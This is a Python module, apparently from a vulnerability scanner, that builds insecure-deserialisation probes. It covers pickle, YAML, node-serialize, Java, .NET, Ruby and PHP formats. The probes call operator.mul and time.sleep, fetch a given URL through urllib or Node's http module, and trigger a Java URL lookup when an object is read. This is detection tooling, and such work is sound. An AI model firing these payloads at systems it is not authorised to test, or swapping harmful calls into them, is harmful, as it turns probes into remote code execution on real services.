"""Objects that compute, wait, call or name what nobody has: what deserialisers that obey give away.

The formats are those of the Java Object Serialization Specification, Python's pickletools, PHP's serialize(),
Ruby's Marshal, YAML tags, node-serialize and [MS-NRBF]. Nothing here runs anything: streams are only written,
and none of them does more than multiply, sleep, ask for an address or fail.
"""

import json
import re
from collections.abc import Callable, Iterator
from functools import partial
from itertools import islice

from s2n.s2nscanner.oracles.serialized import Serialized, opcodes

MAX_PLACES = 4
"""Texts of an object that are replaced, one attempt each."""

_STRINGS = frozenset(
    {"SHORT_BINUNICODE", "BINUNICODE", "BINUNICODE8", "UNICODE", "SHORT_BINSTRING", "BINSTRING", "STRING"}
)
_NRBF = b"\x00\x01\x00\x00\x00\xff\xff\xff\xff\x01\x00\x00\x00\x00\x00\x00\x00"
_YAML_SCALAR = re.compile(r"(?m)^([\w-]+:[ \t]+)\S.*$")


def computing(held: Serialized) -> list[Callable[[int, int], str]]:
    """Makers of values like ``held`` with the product of two numbers in place of one text or another."""
    count = len(list(islice(_computed(held, 1, 1), MAX_PLACES)))
    return [partial(_nth_computed, held, index) for index in range(count)]


def unknown(held: Serialized) -> list[Callable[[str], str]]:
    """Makers of objects of a class or module that bears a word, and that nobody has."""
    makers: dict[str, list[Callable[[str], bytes]]] = {
        "java": [lambda word: java_object(f"{word}.Item")],
        "dotnet": [dotnet_object],
        "ruby": [lambda word: ruby_object(word.capitalize())],
        "python": [lambda word: pickled_call(word, "Item") + b"."],
        "yaml": [
            lambda word: f"!!{word}.Item {{}}".encode(),
            lambda word: f"!ruby/object:{word.capitalize()} {{}}".encode(),
        ],
    }
    return [partial(_written, held, make) for make in makers.get(held.kind, [])]


def calling(held: Serialized, url: str, name: str) -> str | None:
    """An object that asks for ``url`` (Java: looks up ``name``) when it is read; None where none does."""
    if held.kind == "java":
        return held.encode(java_lookup(name)) if name else None
    if held.kind == "python":
        return held.encode(pickled_call("urllib.request", "urlopen", url) + b".")
    if held.kind == "yaml":
        return held.encode(f'!!python/object/apply:urllib.request.urlopen ["{url}"]'.encode())
    if held.kind == "json":
        code = f"_$$ND_FUNC$$_function(){{require('http').get('{url}')}}()"
        return next((held.encode(data) for data in _json_with(held.text, code)), None)
    return None


def waiting(held: Serialized, function: str, seconds: int) -> str | None:
    """An object that calls ``function`` of Python's time module when it is read; None where none does."""
    if held.kind == "python":
        return held.encode(pickled_call("time", function, seconds) + b".")
    if held.kind == "yaml":
        return held.encode(f"!!python/object/apply:time.{function} [{seconds}]".encode())
    return None


def _written(held: Serialized, make: Callable[[str], bytes], word: str) -> str:
    return held.encode(make(word))


def _nth_computed(held: Serialized, index: int, a: int, b: int) -> str:
    return held.encode(next(islice(_computed(held, a, b), index, None)))


def _computed(held: Serialized, a: int, b: int) -> Iterator[bytes]:
    if held.kind == "python":
        *inside, alone = pickles_with(held.data, pickled_call("operator", "mul", a, b, text=True))
        yield from (*inside[: MAX_PLACES - 1], alone)
    elif held.kind == "json":
        yield from _json_with(held.text, f"_$$ND_FUNC$$_function(){{return {a}*{b}}}()")
    elif held.kind == "yaml":
        yield from _yaml_with(held.text, f"!!python/object/apply:operator.mul [{a}, {b}]")


def _json_with(text: str, code: str) -> Iterator[bytes]:
    """The object with ``code`` in place of one of its own texts."""
    members = json.loads(text)
    for name, value in members.items():
        if isinstance(value, str):
            yield json.dumps(members | {name: code}).encode()


def _yaml_with(text: str, node: str) -> Iterator[bytes]:
    changed = _YAML_SCALAR.sub(lambda match: match[1] + node, text, count=1)
    if changed != text:
        yield changed.encode()
    yield node.encode()


def pickles_with(data: bytes, code: bytes) -> Iterator[bytes]:
    """``data`` with ``code`` in place of one of its strings, the last first; at last ``code`` alone.

    Frames are left out: they only say how far to read ahead.
    """
    codes = [*opcodes(data), ("", len(data))]
    pieces = [(name, data[at : codes[i + 1][1]]) for i, (name, at) in enumerate(codes[:-1])]
    for index in reversed([i for i, (name, _) in enumerate(pieces) if name in _STRINGS]):
        kept = [(i, piece) for i, (name, piece) in enumerate(pieces) if name != "FRAME"]
        yield b"".join(code if i == index else piece for i, piece in kept)
    yield code + b"."


def pickled_call(module: str, name: str, *arguments: int | str, text: bool = False) -> bytes:
    """Opcodes (protocol 0, read by every version) that call ``module.name``; ``text``: and str() of it."""
    pushed = "".join(f"I{a}\n" if isinstance(a, int) else f"V{a}\n" for a in arguments)
    call = f"c{module}\n{name}\n({pushed}tR"
    return (f"cbuiltins\nstr\n({call}tR" if text else call).encode("raw_unicode_escape")


def java_object(class_name: str) -> bytes:
    """An object without fields of ``class_name``."""
    name = class_name.encode()
    return b"\xac\xed\x00\x05sr" + _short(name) + b"\0\0\0\0\0\0\0\1\2\0\0xp"


def java_lookup(host: str) -> bytes:
    """A HashMap whose only key is a URL: reading it looks ``host`` up, and does nothing else."""
    url = b"sr\0\x0cjava.net.URL\x96\x25\x37\x36\x1a\xfc\xe4\x72\3\0\7I\0\x08hashCodeI\0\4portL\0\tauthorityt"
    url += (
        b"\0\x12Ljava/lang/String;L\0\4fileq\0~\0\3L\0\4hostq\0~\0\3L\0\x08protocolq\0~\0\3L\0\3refq\0~\0\3xp"
    )
    url += b"\xff\xff\xff\xff\xff\xff\xff\xfft" + _short(host.encode()) + b"t\0\0q\0~\0\5t\0\4httppx"
    table = b"sr\0\x11java.util.HashMap\5\7\xda\xc1\xc3\x16\x60\xd1\3\0\2F\0\nloadFactorI\0\tthresholdxp"
    return b"\xac\xed\0\5" + table + b"?@\0\0\0\0\0\x0cw\x08\0\0\0\x10\0\0\0\1" + url + b"t\0\1vx"


def dotnet_object(name: str) -> bytes:
    """An object without members of a class in assembly ``name``."""
    library = f"{name}, Version=1.0.0.0, Culture=neutral, PublicKeyToken=null".encode()
    item = f"{name}.Item".encode()
    return (
        _NRBF
        + (b"\x0c\2\0\0\0" + bytes([len(library)]) + library)
        + (b"\5\1\0\0\0" + bytes([len(item)]) + item + b"\0\0\0\0\2\0\0\0\x0b")
    )


def ruby_object(class_name: str) -> bytes:
    """An object without instance variables of ``class_name``."""
    return b"\x04\x08o:" + bytes([len(class_name) + 5]) + class_name.encode() + b"\0"


def php_object(class_name: str) -> bytes:
    """An object without properties of ``class_name``."""
    return f'O:{len(class_name)}:"{class_name}":0:{{}}'.encode()


def _short(text: bytes) -> bytes:
    return len(text).to_bytes(2, "big") + text
